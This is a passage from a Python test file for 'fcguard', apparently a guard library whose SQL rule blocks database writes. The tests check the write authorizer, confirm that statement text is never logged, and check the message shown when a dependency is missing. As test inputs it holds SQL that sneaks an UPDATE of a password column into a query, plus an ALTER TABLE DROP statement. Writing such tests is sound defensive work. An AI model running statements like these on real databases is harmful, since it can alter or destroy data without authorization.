        lambda action, *_: sqlite3.SQLITE_OK if action in reading else writes.append(action) or sqlite3.SQLITE_OK
    )
    with contextlib.suppress(sqlite3.Error):
        connection.execute(text)
    connection.close()
    assert writes == []


def test_the_parser_logs_nothing_of_a_statement(make_call: Any, caplog: pytest.LogCaptureFixture) -> None:
    secret = "SELECT 1 INTO x WITH y AS z = UPDATE t SET password = 'hunter2'"
    assert sql()(make_call({"sql": secret})) is not None
    assert sql(allow=["alter"])(make_call({"sql": "ALTER TABLE t DROP C 'hunter2'"})) is not None
    assert caplog.records == []
    logging.getLogger("sqlglot").warning("its own words are still heard")
    assert len(caplog.records) == 1


def test_sqlglot_is_missing() -> None:
    code = (
        "import sys; sys.modules['sqlglot'] = None\n"
        "from fcguard.rules import sql\n"
        "try:\n    sql()\n"
        "except ImportError as error:\n    print(error)\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60, check=True)
    assert "pip install 'fcguard[sql]'" in done.stdout
